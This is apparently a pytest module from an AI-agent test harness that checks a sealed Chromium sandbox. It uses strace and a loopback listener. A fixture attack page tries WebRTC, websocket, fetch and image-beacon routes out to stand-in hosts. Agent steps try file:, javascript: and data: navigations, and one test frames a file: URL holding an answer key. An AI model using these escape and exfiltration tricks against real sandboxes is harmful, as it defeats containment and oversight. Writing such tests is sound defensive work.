"""The seal, tested from outside the browser: what Chromium's processes try to reach.

An attack page tries every way out the probes found (WebRTC STUN/TURN, a websocket
and a fetch to another loopback port, fetches and images to outside addresses),
and the agent tries ``file:``, ``javascript:`` and ``data:`` navigations. strace,
attached to every Chromium process, records each connect/sendto/sendmsg the
browser makes; a listener in this process's network (outside the browser's)
counts what reaches it. Nothing may leave but traffic to the fixture server.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import threading
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from proctor.computer.browser import SealedNetwork
from proctor.errors import ComputerError
from proctor.records import AttemptRecord
from proctor.runner import PlanItem, RunOptions, Worker, parse_arm, run_attempt
from proctor.scenario import LoadedScenario, load_scenario
from proctor.world import Site

pytestmark = pytest.mark.browser

OUTSIDE = (  # documentation ranges (RFC 5737): never real hosts
    "198.51.100.7",
    "198.51.100.8",
    "198.51.100.9",
    "203.0.113.10",
)


async def attack(request: Request) -> Response:
    port = int(request.query_params.get("port", "9"))
    outside_rtc, outside_turn, outside_fetch, outside_img = OUTSIDE
    html = f"""<!doctype html><title>Attack</title><p id="out">running</p>
<script>
const seen = [];
try {{
  const pc = new RTCPeerConnection({{iceServers: [
    {{urls: 'stun:{outside_rtc}:3478'}},
    {{urls: 'turn:{outside_turn}:3478?transport=udp', username: 'u', credential: 'p'}},
    {{urls: 'turn:{outside_turn}:3478?transport=tcp', username: 'u', credential: 'p'}},
  ]}});
  pc.createDataChannel('x');
  pc.onicecandidate = (e) => {{ if (e.candidate) seen.push('candidate'); }};
  pc.createOffer().then((o) => pc.setLocalDescription(o));
}} catch (e) {{ seen.push('rtc-error'); }}
try {{
  const ws = new WebSocket('ws://127.0.0.1:{port}/');
  ws.onopen = () => seen.push('ws-open');
}} catch (e) {{}}
fetch('http://127.0.0.1:{port}/leak', {{mode: 'no-cors'}}).catch(() => {{}});
fetch('http://{outside_fetch}/leak', {{mode: 'no-cors'}}).catch(() => {{}});
new Image().src = 'http://{outside_img}/pixel.png';
setTimeout(() => {{
  document.getElementById('out').textContent = 'attacks done: ' + (seen.join(',') || 'none');
}}, 3000);
</script>"""
    return HTMLResponse(html)


async def home(request: Request) -> Response:
    return HTMLResponse("<!doctype html><title>Home</title><p>home</p>")


ATTACK = Site(name="attack", routes=[Route("/", home), Route("/attack", attack)])


def _sealable() -> bool:
    try:
        SealedNetwork.create().close()
    except ComputerError:
        return False
    return True


class Listener:
    """A TCP and a UDP socket on this process's loopback, counting what arrives."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.tcp.settimeout(0.2)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.settimeout(0.2)
        self.hits: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            with contextlib.suppress(TimeoutError, OSError):
                conn, _ = self.tcp.accept()
                self.hits.append("tcp")
                conn.close()
            with contextlib.suppress(TimeoutError, OSError):
                self.udp.recvfrom(2048)
                self.hits.append("udp")

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.tcp.close()
        self.udp.close()


def _descendants(root: int) -> list[int]:
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        parents[int(entry.name)] = int(stat.rsplit(")", 1)[1].split()[1])
    found: list[int] = []
    frontier = [root]
    while frontier:
        pid = frontier.pop()
        children = [p for p, parent in parents.items() if parent == pid]
        found.extend(children)
        frontier.extend(children)
    return found


def _chromium_pids() -> list[int]:
    pids = []
    for pid in _descendants(os.getpid()):
        with contextlib.suppress(OSError):
            if "chromium" in os.readlink(f"/proc/{pid}/exe"):
                pids.append(pid)
    return pids


@contextlib.contextmanager
def traced(pids: list[int], out: Path) -> Iterator[None]:
    """strace every pid (and their new children) for network syscalls."""
    cmd = ["strace", "-f", "-qq", "-e", "trace=connect,sendto,sendmsg,sendmmsg", "-o", str(out)]
    for pid in pids:
        cmd += ["-p", str(pid)]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            tracers = []
            for pid in pids:
                with contextlib.suppress(OSError):
                    status = Path(f"/proc/{pid}/status").read_text()
                    tracers.append(re.search(r"TracerPid:\s+(\d+)", status))
            if all(m and m.group(1) != "0" for m in tracers):
                break
            assert proc.poll() is None, proc.stderr.read() if proc.stderr else "strace died"
            time.sleep(0.05)
        else:
            raise AssertionError("strace did not attach to Chromium within 15 s")
        yield
    finally:
        proc.send_signal(signal.SIGINT)
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=5)


CALL = re.compile(r"^(\d+) (connect|sendto|sendmsg|sendmmsg)\((.*)$")
RESUMED = re.compile(r"^(\d+) <\.\.\. (\w+) resumed>(.*)$")
DEST = re.compile(
    r"sa_family=AF_INET6?, sin6?_port=htons\((\d+)\),"
    r".*?(?:inet_addr\(\"([^\"]+)\"\)|inet_pton\(AF_INET6, \"([^\"]+)\")"
)
RESULT = re.compile(r"\)\s+= (-?\d+)(?: (E[A-Z]+))?")


class NetCall(NamedTuple):
    call: str
    address: str
    port: int
    result: int
    errno: str | None

    @property
    def went_out(self) -> bool:
        """Whether anything may have left: success, or a connect under way."""
        return self.result >= 0 or self.errno == "EINPROGRESS"


def network_calls(trace: Path) -> list[NetCall]:
    """Every IP destination in the trace, with how its call ended.

    strace splits a call that another thread interrupts into ``<unfinished ...>``
    and ``<... call resumed>`` lines; they are joined per thread here.
    """
    pending: dict[str, tuple[str, str]] = {}
    whole: list[tuple[str, str]] = []
    for line in trace.read_text().splitlines():
        if match := CALL.match(line):
            tid, call, rest = match.groups()
            if rest.endswith("<unfinished ...>"):
                pending[tid] = (call, rest)
            else:
                whole.append((call, rest))
        elif (match := RESUMED.match(line)) and match.group(1) in pending:
            call, head = pending.pop(match.group(1))
            whole.append((call, head + match.group(3)))
    calls = []
    for call, text in whole:
        dest, result = DEST.search(text), RESULT.search(text)
        if dest and result:
            port, v4, v6 = dest.groups()
            calls.append(NetCall(call, v4 or v6, int(port), int(result.group(1)), result.group(2)))
    return calls


def write_scenario(
    folder: Path, sid: str, steps: list[dict[str, Any]], allow: list[str] | None = None
) -> LoadedScenario:
    data: dict[str, Any] = {
        "id": sid,
        "title": f"Seal probe {sid}",
        "brief": "Probe the seal on {site.attack}.",
        "tier": "local",
        "category": "regression",
        "limits": {"seconds": 60, "tool_calls": 40, "steps": 20},
        "world": {
            "sites": ["attack"],
            "browser": {"start": "{site.attack}/", "allow_schemes": allow or []},
        },
        "checks": [{"requested": {"path": "/"}}],
        "solution": steps,
        "decoys": [{"name": "nothing", "steps": [{"op": "done"}], "fails": ["requested"]}],
    }
    path = folder / f"{sid}.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return load_scenario(path, sites={"attack"})


@pytest.fixture(scope="module")
async def worker(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Worker]:
    if not _sealable():
        pytest.skip("this machine refuses a private network namespace (needs CAP_SYS_ADMIN)")
    run_dir = tmp_path_factory.mktemp("seal-run")
    async with Worker(
        run_dir, RunOptions(screenshots=False, retry_delays=(0.0,)), sites=[ATTACK]
    ) as w:
        yield w


async def run(worker: Worker, loaded: LoadedScenario) -> AttemptRecord:
    return await run_attempt(worker, PlanItem(loaded, parse_arm("oracle=scripted"), 1), write=False)


async def test_agent_navigations_out_of_the_world_are_refused_and_logged(
    worker: Worker, tmp_path: Path
) -> None:
    assert worker.seal.level == "sealed", worker.seal.detail
    control = worker.control_file
    scenario_file = tmp_path / "schemes.yaml"
    loaded = write_scenario(
        tmp_path,
        "schemes",
        [
            {"op": "navigate", "url": f"file://{scenario_file}"},
            {"op": "navigate", "url": f"file://{control.parent}/"},
            {"op": "navigate", "url": "javascript:document.title='owned'"},
            {"op": "navigate", "url": "data:text/html,<script>new RTCPeerConnection()</script>"},
            {"op": "navigate", "url": "view-source:http://attack.proctor.test/"},
            {"op": "navigate", "url": "chrome://version"},
            {"op": "navigate", "url": "http://198.51.100.9/"},
            {"op": "navigate", "url": f"http://127.0.0.1:{worker.server.port + 1}/"},
            {"op": "upload", "selector": "input", "files": [str(scenario_file)]},
            {"op": "done"},
        ],
    )
    record = await run(worker, loaded)
    statuses = [(s.op, s.status) for s in record.steps]
    assert statuses[:9] == [("navigate", "refused")] * 8 + [("upload", "refused")], statuses
    assert "javascript" in (record.steps[2].error or "")
    assert record.end_state.title == "Home"  # the javascript: URL never ran
    refused = [(r.refused, (r.url or "")[:11]) for r in record.end_state.requests if r.refused]
    assert refused == [
        ("scheme", "file:///tmp"),
        ("scheme", "file:///tmp"),
        ("scheme", "javascript:"),
        ("scheme", "data:text/h"),
        ("scheme", "view-source"),
        ("scheme", "chrome://ve"),
        ("offworld", "http://198."),
        ("offworld", "http://127."),
    ]
    # nothing was "downloaded" from the disk into the scratch folder
    assert list(record.end_state.files) == [], record.end_state.files
    assert not any("downloads" in s.facts for s in record.steps)


async def test_browser_reaches_nothing_but_the_fixture_server(
    worker: Worker, tmp_path: Path
) -> None:
    """Observed from outside: strace on Chromium, and a listener in this network."""
    if shutil.which("strace") is None:
        pytest.fail("strace is missing: scripts/bootstrap installs it (apt-get install strace)")
    assert worker.seal.level == "sealed", worker.seal.detail
    listener = Listener()
    trace = tmp_path / "net.trace"
    loaded = write_scenario(
        tmp_path,
        "attack",
        [
            {"op": "navigate", "url": f"{{site.attack}}/attack?port={listener.port}"},
            {"op": "wait", "text": "attacks done"},
            {"op": "extract", "kind": "text", "selector": "#out"},
            {"op": "navigate", "url": "{site.attack}/"},
            {"op": "done"},
        ],
    )
    pids = _chromium_pids()
    assert pids, "no Chromium process found under this test process"
    try:
        with traced(pids, trace):
            record = await run(worker, loaded)
    finally:
        listener.close()
    assert [s.status for s in record.steps] == ["ok"] * 5, [s.error for s in record.steps]
    assert record.steps[2].data == "attacks done: none"  # no ICE candidate, no open websocket
    calls = network_calls(trace)
    fixture = ("127.0.0.1", worker.server.port)
    out = [c for c in calls if (c.address, c.port) != fixture and c.went_out]
    assert out == [], out  # nothing but the fixture server was reached
    # strace was attached and saw the browser talk (a keep-alive socket to the fixture
    # server may predate the trace, so its connect need not be in it)
    assert len(trace.read_text().splitlines()) > 100, "the trace saw no traffic"
    assert listener.hits == []  # and nothing reached this process's network
    refused = {(r.refused, r.url) for r in record.end_state.requests if r.refused}
    assert ("websocket", f"ws://127.0.0.1:{listener.port}/") in refused, refused
    assert ("offworld", f"http://127.0.0.1:{listener.port}/leak") in refused, refused
    assert ("offworld", f"http://{OUTSIDE[2]}/leak") in refused, refused


async def test_a_scenario_may_allow_data_pages(worker: Worker, tmp_path: Path) -> None:
    steps = [
        {"op": "navigate", "url": "data:text/html,<title>inline</title><p>inline page</p>"},
        {"op": "navigate", "url": "javascript:document.title='owned'"},
        {"op": "navigate", "url": "{site.attack}/"},
        {"op": "done"},
    ]
    record = await run(worker, write_scenario(tmp_path, "data-allowed", steps, allow=["data"]))
    assert [s.status for s in record.steps] == ["ok", "refused", "ok", "ok"]
    assert [r.refused for r in record.end_state.requests if r.refused] == ["scheme"]


async def test_a_data_page_framing_a_file_url_does_not_hang_the_attempt(
    worker: Worker, tmp_path: Path
) -> None:
    # The framed file: URL never commits a document; a read that waited for one (the
    # popups an action opened) never returned, and the attempt ended at its wall limit
    # with no step, scored as the agent's timeout.
    secret = tmp_path / "secret.txt"
    secret.write_text("the answer key", encoding="utf-8")
    page = f"data:text/html,<title>framed</title><iframe src='file://{secret}'></iframe>"
    steps = [
        {"op": "navigate", "url": page},
        {"op": "extract", "kind": "text"},
        {"op": "navigate", "url": "{site.attack}/"},
        {"op": "done"},
    ]
    record = await run(worker, write_scenario(tmp_path, "data-frames-file", steps, allow=["data"]))
    assert record.stop_reason == "done", (record.stop_reason, record.stop_detail)
    assert [(s.op, s.status) for s in record.steps] == [
        ("navigate", "ok"), ("extract", "ok"), ("navigate", "ok"), ("done", "ok"),
    ]  # fmt: skip
    assert "the answer key" not in json.dumps(record.model_dump(mode="json"))
    assert record.end_state.title == "Home"
